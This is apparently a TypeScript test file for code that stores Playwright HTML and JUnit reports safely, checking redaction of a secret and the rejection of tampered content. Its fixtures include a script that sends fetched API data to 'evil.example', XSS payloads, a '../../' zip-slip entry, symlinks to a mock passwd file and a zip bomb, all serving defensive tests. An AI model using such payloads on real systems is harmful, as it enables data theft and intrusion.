import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { REPORT_LIMITS, storeHtmlReport, storeJunitReport } from './store-html-report';

const SECRET = 's3cr"et-Ω-token';
const redact = (text: string) => text.split(SECRET).join('[redacted]');
const SHA = (n: number) => String(n).repeat(40).slice(0, 40);

/** Every file under a folder, by relative path, with its text. */
function filesUnder(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  for (const entry of readdirSync(dir, { recursive: true, withFileTypes: true })) {
    if (entry.isFile())
      out[join(entry.parentPath, entry.name).slice(dir.length + 1)] = readFileSync(
        join(entry.parentPath, entry.name),
        'latin1',
      );
  }
  return out;
}

const zipOf = (entries: Record<string, string | Uint8Array>) =>
  zipSync(Object.fromEntries(Object.entries(entries).map(([k, v]) => [k, typeof v === 'string' ? strToU8(v) : v])));

const entriesOf = (zip: Uint8Array) =>
  Object.fromEntries(Object.entries(unzipSync(zip)).map(([name, data]) => [name, strFromU8(data)]));

/** A report as the html reporter writes it: the app (here a stand-in), then the data in its template. */
const indexHtml = (data: Uint8Array, before = '<html><script src="./report.js"></script></html>') =>
  `${before}<template id="playwrightReportBase64">data:application/zip;base64,${Buffer.from(data).toString('base64')}</template>`;

const reportJson = {
  files: [{ fileId: 'f1', fileName: 'a.spec.ts', tests: [{ title: 'logs in', outcome: 'expected' }] }],
  stats: { total: 1 },
};
const fileJson = (extra: Record<string, unknown> = {}) => ({
  fileId: 'f1',
  tests: [
    {
      title: `uses ${SECRET}`,
      results: [
        {
          errors: [
            { message: `Expected ${SECRET}`, codeframe: `\u001b[32m's3cr"et-\u001b[39m\u001b[33mΩ-token'\u001b[39m` },
          ],
          attachments: [
            { name: 'stdout', contentType: 'text/plain', body: `printed ${SECRET}\n` },
            { name: 'page', contentType: 'text/html', body: '<script>alert(document.domain)</script>' },
            { name: 'trace', contentType: 'application/zip', path: `data/${SHA(1)}.zip` },
            { name: 'elsewhere', contentType: 'image/png', path: '../../other-run/report/data/x.png' },
          ],
          ...extra,
        },
      ],
    },
  ],
});

describe('storeHtmlReport', () => {
  let root: string;
  let from: string;
  let runDir: string;
  let outside: string;

  beforeEach(async () => {
    root = await mkdtemp(join(tmpdir(), 'stored-report-'));
    from = join(root, 'sandbox', 'report');
    runDir = join(root, 'runs', 'run-1');
    outside = join(root, 'outside');
    await mkdir(join(from, 'data'), { recursive: true });
    await mkdir(outside, { recursive: true });
    await writeFile(join(outside, 'passwd'), `root:x:0:0 ${SECRET}`);
  });

  afterEach(async () => {
    await rm(root, { recursive: true, force: true });
  });

  const writeReport = async (entries: Record<string, string | Uint8Array>, before?: string) =>
    writeFile(join(from, 'index.html'), indexHtml(zipOf(entries), before));

  const storedEntries = async () => entriesOf(await readFile(join(runDir, 'report', 'report.zip')));

  it('keeps only the data of a tampered report: no page, no script, redacted JSON, harmless attachments', async () => {
    await writeReport(
      {
        'report.json': JSON.stringify(reportJson),
        'f1.json': JSON.stringify(fileJson()),
        '../../escape.json': '{"x":1}',
        'app.js': 'alert(1)',
        'f2.json': '<not json>',
      },
      '<html><script>fetch("/api/runs").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script>',
    );

    const stored = await storeHtmlReport(from, runDir, redact);

    expect(stored).toEqual({ files: 1, bytes: expect.any(Number), notRedacted: [] });
    expect(Object.keys(filesUnder(runDir))).toEqual(['report/report.zip']);
    const entries = await storedEntries();
    expect(Object.keys(entries).sort()).toEqual(['f1.json', 'report.json']);
    expect(existsSync(join(root, 'escape.json'))).toBe(false);
    const file = entries['f1.json'];
    expect(file).not.toContain(SECRET);
    expect(file).not.toContain('evil.example');
    const result = (JSON.parse(file) as ReturnType<typeof fileJson>).tests[0].results[0];
    expect(result.errors[0].message).toBe('Expected [redacted]');
    // Colour codes split the secret in the code frame: the plain text is kept, redacted.
    expect(result.errors[0].codeframe).toBe("'[redacted]'");
    expect(result.attachments).toEqual([
      { name: 'stdout', contentType: 'text/plain', body: 'printed [redacted]\n' },
      // An inline body the report would open as a page of the API's origin is plain text now.
      { name: 'page', contentType: 'text/plain', body: '<script>alert(document.domain)</script>' },
      { name: 'trace', contentType: 'application/zip', path: `data/${SHA(1)}.zip` },
      { name: 'elsewhere', contentType: 'image/png' },
    ]);
  });

  it('copies only regular attachment files with the reporter names, never through a symlink', async () => {
    await writeReport({ 'report.json': JSON.stringify(reportJson) });
    await writeFile(join(from, 'data', `${SHA(2)}.png`), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2]));
    await writeFile(join(from, 'data', `${SHA(3)}.md`), `# Error context\n${SECRET}\n`);
    await symlink(join(outside, 'passwd'), join(from, 'data', `${SHA(4)}.txt`));
    await writeFile(join(from, 'data', 'index.html'), '<script>alert(1)</script>');
    await writeFile(join(from, 'data', `${SHA(5)}.png.html`), '<script>alert(1)</script>');
    await mkdir(join(from, 'data', `${SHA(6)}.txt`));
    execFileSync('mkfifo', [join(from, 'data', `${SHA(7)}.txt`)]);
    await mkdir(join(from, 'trace'));
    await writeFile(join(from, 'trace', 'index.html'), '<script>alert(1)</script>');

    const stored = await storeHtmlReport(from, runDir, redact);

    expect(stored).toMatchObject({ files: 3, notRedacted: [] });
    const files = filesUnder(runDir);
    expect(Object.keys(files).sort()).toEqual(
      ['report/report.zip', `report/data/${SHA(2)}.png`, `report/data/${SHA(3)}.md`].sort(),
    );
    expect(files[`report/data/${SHA(3)}.md`]).toBe('# Error context\n[redacted]\n');
    expect(Object.values(files).join('')).not.toContain('root:x');
  });

  it('ignores a data/ folder that is a symlink (to another run’s attachments)', async () => {
    await writeReport({ 'report.json': JSON.stringify(reportJson) });
    await rm(join(from, 'data'), { recursive: true });
    await writeFile(join(outside, `${SHA(8)}.png`), 'another run');
    await symlink(outside, join(from, 'data'));

    expect(await storeHtmlReport(from, runDir, redact)).toMatchObject({ files: 1 });
    expect(Object.keys(filesUnder(runDir))).toEqual(['report/report.zip']);
  });

  it('redacts the text inside a trace zip: its JSON lines, sources and resources', async () => {
    await writeReport({ 'report.json': JSON.stringify(reportJson) });
    const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46]);
    const trace = zipOf({
      'test.trace': [
        JSON.stringify({ type: 'before', title: `fill ${SECRET}` }),
        JSON.stringify({ type: 'stdout', text: `token=${SECRET}` }),
        'not json but ' + SECRET,
      ].join('\n'),
      'trace.network': JSON.stringify({ request: { headers: [{ name: 'authorization', value: `Bearer ${SECRET}` }] } }),
      'resources/page.html': `<input value="${SECRET}">`,
      'src/a.spec.ts': `const token = '${SECRET}';`,
      'screencast/frame.jpeg': jpeg,
    });
    await writeFile(join(from, 'data', `${SHA(1)}.zip`), trace);

    const stored = await storeHtmlReport(from, runDir, redact);

    expect(stored).toMatchObject({ files: 2, notRedacted: [] });
    const entries = unzipSync(await readFile(join(runDir, 'report', 'data', `${SHA(1)}.zip`)));
    const texts = Object.fromEntries(Object.entries(entries).map(([k, v]) => [k, Buffer.from(v).toString('utf8')]));
    for (const [name, text] of Object.entries(texts)) expect([name, text.includes(SECRET)]).toEqual([name, false]);
    expect(texts['test.trace'].split('\n').map((line) => line.includes('[redacted]'))).toEqual([true, true, true]);
    expect(JSON.parse(texts['trace.network'])).toEqual({
      request: { headers: [{ name: 'authorization', value: 'Bearer [redacted]' }] },
    });
    expect(texts['src/a.spec.ts']).toBe("const token = '[redacted]';");
    expect(Buffer.from(entries['screencast/frame.jpeg']).equals(jpeg)).toBe(true);
  });

  it('keeps a trace over the redaction limits as written, and says so', async () => {
    await writeReport({ 'report.json': JSON.stringify(reportJson) });
    const trace = zipOf({ 'test.trace': `${SECRET}\n`.repeat(1000) });
    await writeFile(join(from, 'data', `${SHA(1)}.zip`), trace);

    const stored = await storeHtmlReport(from, runDir, redact, { ...REPORT_LIMITS, redactUncompressedBytes: 1000 });

    expect(stored?.notRedacted).toEqual([`${SHA(1)}.zip`]);
    expect(Buffer.compare(await readFile(join(runDir, 'report', 'data', `${SHA(1)}.zip`)), trace)).toBe(0);
  });

  it('stores nothing when there is no report, or it is not one', async () => {
    expect(await storeHtmlReport(from, runDir, redact)).toBeUndefined();
    // The template with something else than base64 zip data in it.
    await writeFile(
      join(from, 'index.html'),
      '<template id="playwrightReportBase64"><script>alert(1)</script></template>',
    );
    expect(await storeHtmlReport(from, runDir, redact)).toBeUndefined();
    // A zip without report.json.
    await writeReport({ 'f1.json': '{}' });
    expect(await storeHtmlReport(from, runDir, redact)).toBeUndefined();
    // A zip that declares more data than the limit (a zip bomb) is not inflated.
    await writeReport({ 'report.json': JSON.stringify(reportJson), 'f1.json': ' '.repeat(2_000_000) });
    expect(
      await storeHtmlReport(from, runDir, redact, { ...REPORT_LIMITS, reportUncompressedBytes: 1_000_000 }),
    ).toBeUndefined();
    // index.html as a symlink to a real report elsewhere.
    await writeFile(join(outside, 'index.html'), indexHtml(zipOf({ 'report.json': JSON.stringify(reportJson) })));
    await rm(join(from, 'index.html'));
    await symlink(join(outside, 'index.html'), join(from, 'index.html'));
    expect(await storeHtmlReport(from, runDir, redact)).toBeUndefined();
    // A FIFO in its place: refused at once, not waited on.
    await rm(join(from, 'index.html'));
    execFileSync('mkfifo', [join(from, 'index.html')]);
    expect(await storeHtmlReport(from, runDir, redact)).toBeUndefined();
    expect(existsSync(runDir)).toBe(false);
  });
});

describe('storeJunitReport', () => {
  let root: string;

  beforeEach(async () => {
    root = await mkdtemp(join(tmpdir(), 'stored-junit-'));
  });

  afterEach(async () => {
    await rm(root, { recursive: true, force: true });
  });

  it('stores the JUnit file redacted as runDir/junit.xml', async () => {
    await writeFile(join(root, 'junit.xml'), `<testsuites><system-out>${SECRET}</system-out></testsuites>`);
    expect(await storeJunitReport(join(root, 'junit.xml'), join(root, 'run'), redact)).toEqual({ bytes: 60 });
    expect(await readFile(join(root, 'run', 'junit.xml'), 'utf8')).toBe(
      '<testsuites><system-out>[redacted]</system-out></testsuites>',
    );
  });

  it('refuses a symlink or a missing file', async () => {
    await writeFile(join(root, 'secret'), SECRET);
    await symlink(join(root, 'secret'), join(root, 'junit.xml'));
    expect(await storeJunitReport(join(root, 'junit.xml'), join(root, 'run'), redact)).toBeUndefined();
    expect(await storeJunitReport(join(root, 'none.xml'), join(root, 'run'), redact)).toBeUndefined();
    expect(existsSync(join(root, 'run', 'junit.xml'))).toBe(false);
  });
});
